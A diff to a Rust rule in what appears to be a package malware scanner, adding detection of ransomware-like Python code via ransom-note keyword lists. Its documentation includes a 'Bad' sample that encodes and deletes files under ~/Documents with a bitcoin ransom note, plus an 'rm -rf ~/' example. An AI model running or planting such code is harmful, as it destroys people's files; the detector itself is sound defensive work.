@@ -1,6 +1,6 @@
 //! ## What it detects
 //!
-//! Commands or calls that delete a home folder or a whole disk, or encrypt what is in it.
+//! Commands or calls that delete a home folder or a whole disk, or encrypt what is in it; files that are changed beside a note that says whom to pay.
 //!
 //! ## Why it is bad
 //!
@@ -17,6 +17,19 @@
 //! os.system('rm -rf ~/')
 //! ```
 //!
+//! ## Bad
+//!
+//! ```python x/__init__.py
+//! import os
+//! NOTE = "All your files are encrypted. Send 1 bitcoin to us if you want them back."
+//! for folder, _, names in os.walk(os.path.expanduser('~/Documents')):
+//!     for name in names:
+//!         path = os.path.join(folder, name)
+//!         data = open(path, 'rb').read()
+//!         open(path + '.locked', 'wb').write(bytes(b ^ 7 for b in data))
+//!         os.remove(path)
+//! ```
+//!
 //! ## Good
 //!
 //! ```python setup.py
@@ -24,10 +37,10 @@
 //! os.system('rm -rf build')
 //! ```
 
-use fondaco_python::{Api, Call, Value};
+use fondaco_python::{Api, Call, Unit, Value};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
 
-use super::archived_home::walks_home;
+use super::archived_home::{walks, walks_home};
 use crate::{Hits, Package, Rule};
 
 pub(crate) const RULE: Rule = Rule {
@@ -72,12 +85,29 @@ fn check(package: &Package<'_>, hits: &mut Hits) {
             _ => {}
         }
     }
+    for unit in package.units().filter(|unit| leaves_note(unit)) {
+        if let Some(call) = unit.calls.iter().find(|call| matches!(call.api, Some(Api::FileWrite | Api::FileDelete))) {
+            hits.call(unit, call, "changes files, and tells whom to pay for them");
+        }
+    }
     for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Shell)) {
         let ends = |text: &str| text.trim_end() == "rm -rf /";
         if call.texts().iter().any(|text| ends(text) || COMMANDS.iter().any(|command| text.to_lowercase().contains(command))) {
             hits.call(unit, call, "deletes a home folder or a disk");
         }
     }
+}
+
+/// Whether code has a note for somebody whose files it takes away, and walks through folders.
+fn leaves_note(unit: &Unit) -> bool {
+    const TAKEN: [&str; 4] = ["encrypted", "locked", "verschl", "cifrado"];
+    const PAID: [&str; 6] = ["bitcoin", "btc", "monero", "ethereum", "ransom", "wallet"];
+    let is_note = |text: &str| {
+        let text = text.to_ascii_lowercase();
+        let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
+        text.len() >= 40 && text.contains(' ') && has(&TAKEN) && has(&PAID) && (text.contains("your ") || text.contains("you "))
+    };
+    walks(unit) && unit.text.split(['"', '\'']).any(is_note)
 }
 
 /// Bytes that mean nothing.
